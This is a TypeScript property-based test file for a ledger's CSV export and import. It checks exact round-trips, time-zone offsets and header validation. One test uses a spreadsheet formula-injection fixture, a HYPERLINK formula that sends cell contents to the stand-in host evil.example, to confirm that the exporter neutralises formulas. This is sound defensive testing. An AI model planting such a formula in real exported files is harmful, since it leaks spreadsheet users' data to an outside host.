import type { Payment } from '@hpckit/core';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { canonicalAmount } from '../stores/amount-codec.js';
import type { ChargeRecord } from '../stores/records.js';
import { chargesToCsv, parseChargesCsv, parsePaymentsCsv, paymentsToCsv } from './ledger-csv.js';

const anyText = fc.string({ unit: 'binary', maxLength: 20 }).filter((s) => !s.includes('\0'));
// Often starting like a spreadsheet formula, or with the guard's own quote.
const text = fc.oneof(
  anyText,
  fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "''"), anyText).map(([a, b]) => a + b),
);
const time = fc.date({ min: new Date('2000-01-01'), max: new Date('2100-01-01'), noInvalidDate: true });
const amount = fc
  .tuple(fc.bigInt({ min: 0n, max: 10n ** 12n }), fc.integer({ min: 0, max: 999_999 }))
  .map(([i, f]) => `${i}.${String(f).padStart(6, '0')}`.replace(/0{1,4}$/, ''));

const charge: fc.Arbitrary<ChargeRecord> = fc.record(
  {
    id: fc.uuid(),
    account: fc.constantFrom('chem', 'bio'),
    user: fc.constantFrom('alice', 'bob'),
    kind: fc.constantFrom('job', 'manual', 'reversal'),
    type: text.filter((s) => s.length > 0),
    amount,
    currency: fc.constant('CNY'),
    job: fc.record({
      cluster: fc.constant('c1'),
      jobId: fc.stringMatching(/^[0-9]{1,6}(_[0-9]{1,3})?$/),
      submitTime: time,
    }),
    reverses: fc.uuid(),
    time,
    comment: text,
    operator: fc.constantFrom('fin', 'root'),
  },
  { requiredKeys: ['id', 'account', 'kind', 'type', 'amount', 'currency', 'time'] },
);

describe('ledger CSV', () => {
  it('round-trips charges exactly, in any time zone', () => {
    fc.assert(
      fc.property(
        fc.array(charge, { maxLength: 8 }),
        fc.constantFrom('UTC', 'Asia/Shanghai', 'America/St_Johns'),
        (charges, timeZone) => {
          const back = parseChargesCsv(chargesToCsv(charges, { timeZone }));
          expect(back).toEqual(charges.map((c) => ({ ...c, amount: canonicalAmount(c.amount) })));
        },
      ),
    );
  });

  it('writes times as local time with the offset, and reads them back to the same instant', () => {
    const p: Payment = {
      id: 'p1',
      account: 'chem',
      kind: 'payment',
      type: 'bank, "wire"',
      amount: '12.50',
      currency: 'CNY',
      time: new Date('2026-01-08T02:00:00Z'),
      comment: '',
      operator: 'fin',
    };
    const csv = paymentsToCsv([p], { timeZone: 'Asia/Shanghai' });
    expect(csv).toBe(
      'id,time,account,kind,type,amount,currency,linked_to,comment,operator\r\n' +
        'p1,2026-01-08T10:00:00.000+08:00,chem,payment,"bank, ""wire""",12.50,CNY,,"",fin\r\n',
    );
    expect(parsePaymentsCsv(csv)).toEqual([p]);
  });

  it('writes text that a spreadsheet would run as a formula as plain text, and reads it back unchanged', () => {
    const p: Payment = {
      id: 'p1',
      account: 'chem',
      kind: 'payment',
      type: '@SUM(A1:A9)',
      amount: '1.00',
      currency: 'CNY',
      time: new Date('2026-01-08T02:00:00Z'),
      comment: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      operator: "'quoted",
    };
    const csv = paymentsToCsv([p]);
    expect(csv.split('\r\n')[1]).toBe(
      `p1,2026-01-08T02:00:00.000+00:00,chem,payment,'@SUM(A1:A9),1.00,CNY,,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",''quoted`,
    );
    expect(parsePaymentsCsv(csv)).toEqual([p]);
  });

  it('refuses a file whose header is not an export header', () => {
    expect(() => parseChargesCsv('a,b\r\n1,2\r\n')).toThrow(/header/);
  });
});
